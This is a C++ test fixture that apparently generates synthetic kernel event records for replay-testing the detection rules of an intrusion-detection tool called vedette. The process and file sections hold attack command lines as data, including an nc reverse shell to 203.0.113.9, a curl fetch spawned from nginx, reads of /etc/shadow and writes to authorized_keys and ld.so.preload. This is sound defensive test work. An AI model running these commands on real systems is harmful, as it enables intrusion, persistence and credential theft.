// SPDX-License-Identifier: Apache-2.0
// No unit test: replay_test looks at all of it.
#include "tests/replay/sample.h"

#include <fcntl.h>

#include <algorithm>
#include <filesystem>
#include <map>
#include <utility>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "base/check.h"

namespace vedette {
namespace {

constexpr int kOpenat2 = 437;  // The same number on every machine.
constexpr uint64_t kExecIdBase = 0x5a00'0000'0000'0000;
const char kContainerCgroup[] =
    "/system.slice/docker-"
    "4c01db0b339c8a1f2d7c1b6a7d4ee0b3a5c7f9e1d2b4c6a8e0f1a3b5c7d9e1f3.scope";

// Who runs what. The members that rules ask for most; the rest stays zero.
struct Who {
  uint64_t id;
  uint64_t parent;
  uint32_t uid;
  std::string command_line;   // Split at blanks.
  std::string exe_path = "";  // Empty: /usr/bin/ and the first argument.
  std::string cgroup = "/user.slice";
};

class Recording {
 public:
  RecordBuilder Start(EventKind kind, uint64_t id) {
    const Who& who = who_[id];
    RecordBuilder record(kind);
    record.Set("exec_id", kExecIdBase + id)
        .Set("pid", id)
        .Set("tid", id)
        .Set("uid", who.uid)
        .Set("gid", who.uid)
        .Set("comm", Name(who).substr(0, WIRE_COMM_SIZE - 1))
        .Set("time_ns", now_ns_ += 250'000)
        .Set("sequence", ++sequences_[kind])
        .Set("cgroup_id", 4242);
    return record;
  }

  RecordBuilder Process(EventKind kind, const Who& who) {
    who_[who.id] = who;
    RecordBuilder record = Start(kind, who.id);
    record.Set("parent_exec_id", kExecIdBase + who.parent)
        .Set("parent_pid", who.parent)
        .Set("vpid", who.id)
        .Set("sid", who.parent)
        .Set("start_ns", now_ns_)
        .Set("exe_mode", 0100755)
        .Set("exe_links", 1)
        .Set("exe_ino", 1000 + who.id)
        .Set("login_uid", -1)
        .Set("exe_path", ExePath(who))
        .Set("exe_requested", ExePath(who))
        .Set("cwd", "/")
        .Set("cgroup", who.cgroup)
        .SetArguments("args", absl::StrSplit(who.command_line, ' '));
    return record;
  }

  void Seen(const Who& who) { Add(Process(WIRE_process_seen, who)); }
  void Exec(const Who& who) { Add(Process(WIRE_process_exec, who)); }

  // With the fork before it.
  void Spawn(const Who& who) {
    Add(Start(WIRE_process_fork, who.parent)
            .Set("child_exec_id", kExecIdBase + who.id + 500)
            .Set("child_parent_exec_id", kExecIdBase + who.parent)
            .Set("child_start_ns", now_ns_)
            .Set("child_pid", who.id));
    Add(Process(WIRE_process_exec, who).Set("previous_exec_id", kExecIdBase + who.id + 500));
  }

  RecordBuilder OpenOf(uint64_t id, const std::string& path, int flags) {
    return Start(WIRE_file_open, id)
        .Set("syscall", kOpenat2)
        .Set("flags", flags)
        .Set("result", 3)
        .Set("ino", 77)
        .Set("mode", 0100644)
        .Set("links", 1)
        .Set("path", path)
        .Set("name", path);
  }
  void Open(uint64_t id, const std::string& path, int flags = O_RDONLY) {
    Add(OpenOf(id, path, flags));
  }

  void Connect(uint64_t id, const std::string& address, int port, int protocol = 6) {
    Add(Start(WIRE_network_connect, id)
            .Set("socket_ino", 9000 + id)
            .Set("socket_type", protocol == 6 ? 1 : 2)
            .Set("protocol", protocol)
            .Set("remote_address", address)
            .Set("remote_port", port)
            .Set("local_port", 40000 + id));
  }

  void Exit(uint64_t id, int status = 0) {
    Add(Start(WIRE_process_exit, id).Set("status", status));
  }

  void Add(const RecordBuilder& record) { records_.push_back(record.Build()); }
  std::vector<RecordBytes> Take() { return std::move(records_); }

 private:
  static std::string First(const Who& who) {
    return who.command_line.substr(0, who.command_line.find(' '));
  }
  static std::string ExePath(const Who& who) {
    return who.exe_path.empty() ? absl::StrCat("/usr/bin/", First(who)) : who.exe_path;
  }
  static std::string Name(const Who& who) {
    const std::string path = ExePath(who);
    return path.substr(path.rfind('/') + 1);
  }

  std::map<uint64_t, Who> who_;
  std::map<EventKind, uint64_t> sequences_;
  uint64_t now_ns_ = 60'000'000'000;
  std::vector<RecordBytes> records_;
};

void AddHost(Recording& host) {
  host.Seen({1, 0, 0, "systemd", "/usr/lib/systemd/systemd", "/init.scope"});
  host.Seen({200, 1, 0, "sshd", "/usr/sbin/sshd", "/system.slice/ssh.service"});
  host.Seen({210, 200, 1000, "sshd", "/usr/sbin/sshd"});
  host.Seen({211, 210, 1000, "bash"});
  host.Seen({300, 1, 33, "nginx -g daemon", "/usr/sbin/nginx", "/system.slice/nginx.service"});
  host.Seen({400, 1, 0, "containerd-shim-runc-v2", "", "/system.slice/containerd.service"});
  host.Seen({401, 400, 0, "sleep 1000", "", kContainerCgroup});
}

// What must not alert: a login shell's work, a build.
void AddQuietWork(Recording& host, uint64_t quiet) {
  for (uint64_t i = 0; i < quiet; ++i) {
    const uint64_t pid = 1000 + i;
    host.Spawn({pid, 211, 1000, i % 2 == 0 ? "ls -l" : "make -j2"});
    host.Open(pid, "/etc/ld.so.cache", O_RDONLY | O_CLOEXEC);
    host.Open(pid, "/usr/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY | O_CLOEXEC);
    host.Open(pid, absl::StrCat("/home/ann/code/file", i, ".cc"));
    if (i % 8 == 0) {
      host.Add(host.OpenOf(pid, "", O_RDONLY)
                   .Set("result", -2)
                   .Set("mode", 0)
                   .Set("name", "/etc/shadow.missing"));
    }
    if (i % 10 == 0) host.Connect(pid, "93.184.216.34", 443);
    host.Exit(pid);
  }
}

void AddFileActs(Recording& host) {
  host.Spawn({2000, 211, 0, "cat /etc/shadow"});
  host.Open(2000, "/etc/shadow");
  host.Exit(2000);
  host.Spawn({2001, 211, 1000, "tee -a /home/ann/.ssh/authorized_keys"});
  host.Open(2001, "/home/ann/.ssh/authorized_keys", O_WRONLY | O_APPEND);
  host.Spawn({2002, 211, 0, "dd of=/etc/ld.so.preload"});
  host.Open(2002, "/etc/ld.so.preload", O_WRONLY | O_CREAT);
  host.Spawn({2003, 211, 0, "bash"});
  host.Add(host.OpenOf(2003, "/var/log/auth.log", O_WRONLY | O_TRUNC));
  // Submitted through io_uring: no system call tells its name.
  RecordBuilder ring = host.OpenOf(2003, "/etc/shadow", O_RDONLY).Set("syscall", -1);
  ring.header().flags = WIRE_FLAG_IO_URING;
  host.Add(ring);
  host.Open(401, "/proc/sys/kernel/core_pattern", O_WRONLY);
}

void AddProcessActs(Recording& host) {
  host.Spawn({2100, 300, 33, "sh -c id", "/usr/bin/dash", "/system.slice/nginx.service"});
  host.Spawn({2101, 2100, 33, "curl http://203.0.113.9/x", "", "/system.slice/nginx.service"});
  const Who memory = {2102, 211, 1000, "payload", "/memfd:payload"};
  host.Add(host.Process(WIRE_process_exec, memory).Set("exe_from_memfd", 1).Set("exe_links", 0));
  const Who deleted = {2103, 211, 1000, "dropper", "/home/ann/dropper"};
  host.Add(host.Process(WIRE_process_exec, deleted).Set("exe_deleted", 1).Set("exe_links", 0));
  host.Spawn({2104, 211, 1000, "miner --fast", "/dev/shm/miner"});
  host.Spawn({2105, 211, 1000, "nc -e /bin/sh 203.0.113.9 4444", "/usr/bin/nc"});
  host.Spawn({2106, 401, 0, "bash", "", kContainerCgroup});
  const std::string text(WIRE_TEXT_MAX, 'a');
  const Who lengthy = {2107, 211, 1000, "echo"};
  host.Add(host.Process(WIRE_process_exec, lengthy).Set("args", text).SetTruncated("args"));
}

void AddNetworkActs(Recording& host) {
  host.Spawn({2200, 211, 1000, "python3 client.py", "/usr/bin/python3.11"});
  host.Connect(2200, "203.0.113.9", 31337);
  host.Connect(2200, "::ffff:203.0.113.9", 4444);
  host.Connect(2200, "2001:db8::9", 53, 17);
  host.Spawn({2201, 211, 1000, "bash"});
  host.Connect(2201, "203.0.113.9", 4444);
  host.Connect(2101, "169.254.169.254", 80);
  host.Add(host.Start(WIRE_network_connect, 401)
               .Set("family", 1)
               .Set("socket_type", 1)
               .Set("unix_path", "/run/docker.sock"));
}

void AddLoss(Recording& host) {
  host.Add(host.Start(WIRE_lost, 1)
               .Set("from_ns", 60'000'000'000)
               .Set("to_ns", 60'001'000'000)
               .Set("count", 17)
               .Set("lost_kind", static_cast<uint32_t>(WIRE_file_open))
               .Set("stage", static_cast<uint32_t>(WIRE_LOST_ring_full)));
}

}  // namespace

HostMetadata SampleHost() {
  HostMetadata host;
  host.hostname = "web-1";
  host.boot_id = "0b3ad0c7-6a2e-4c6b-9d64-2f8c7be0a411";
  host.wall_minus_boot_ns = 1'714'564'800'000'000'000;  // 2024-05-01T12:00:00Z
  host.users = {{0, "root"}, {33, "www-data"}, {1000, "ann"}};
  host.groups = {{0, "root"}, {33, "www-data"}, {1000, "ann"}};
  return host;
}

std::vector<RecordBytes> SampleRecords(uint64_t quiet) {
  Recording host;
  AddHost(host);
  AddQuietWork(host, quiet);
  AddFileActs(host);
  AddProcessActs(host);
  AddNetworkActs(host);
  AddLoss(host);
  return host.Take();
}

std::vector<RuleSource> ShippedRules() {
  std::vector<std::string> folders;
  for (const auto& entry : std::filesystem::directory_iterator(VEDETTE_RULE_PACKS)) {
    if (entry.is_directory()) folders.push_back(entry.path().string());
  }
  std::sort(folders.begin(), folders.end());
  auto sources = ReadRuleSources(folders);
  CHECK(sources.ok()) << sources.status();
  return *std::move(sources);
}

std::shared_ptr<const Program> ShippedProgram() {
  LoadResult result = LoadRules(ShippedRules());
  CHECK(result.program != nullptr) << result.diagnostics.ToText();
  return std::move(result.program);
}

}  // namespace vedette
